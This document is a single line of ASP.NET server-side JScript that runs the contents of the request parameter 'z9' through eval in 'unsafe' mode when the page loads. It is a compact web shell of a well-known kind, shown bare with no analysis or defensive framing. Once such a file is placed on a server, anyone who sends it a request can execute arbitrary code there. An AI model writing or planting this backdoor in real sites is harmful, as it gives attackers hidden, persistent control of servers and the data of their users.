<script language='JScript' runat='server'>function Page_Load(){eval(Request['z9'],'unsafe');}</script>
